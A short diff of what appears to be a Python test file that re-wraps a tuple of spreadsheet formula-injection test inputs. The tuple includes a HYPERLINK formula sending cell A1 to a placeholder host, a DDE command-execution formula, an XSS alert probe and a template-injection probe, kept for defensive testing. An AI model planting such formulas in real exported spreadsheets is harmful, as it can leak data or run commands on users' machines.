@@ -14,7 +14,8 @@ from linli.registry.sheets import MOST_CHARACTERS, writing
 
 PAYLOADS = (
     "=1+1", "+8613900041000", "-5", "@SUM(A1)", "=HYPERLINK(\"http://x/?\"&A1)", "\t=1", "\r=1", "＝1+1",
-    "＋1", "－1", "＠x", "=cmd|' /C calc'!A0", "<script>alert(1)</script>", "]]>&amp;", "{{7*7}}", "139000410001", "001234", "1E5", "2021-12-5",
+    "＋1", "－1", "＠x",
+    "=cmd|' /C calc'!A0", "<script>alert(1)</script>", "]]>&amp;", "{{7*7}}", "139000410001", "001234", "1E5", "2021-12-5",
     "TRUE", "#N/A", "_x000D_", "𠮷 䶮 ·", "a\nb", " 前后有空格 ",
 )  # fmt: skip
 
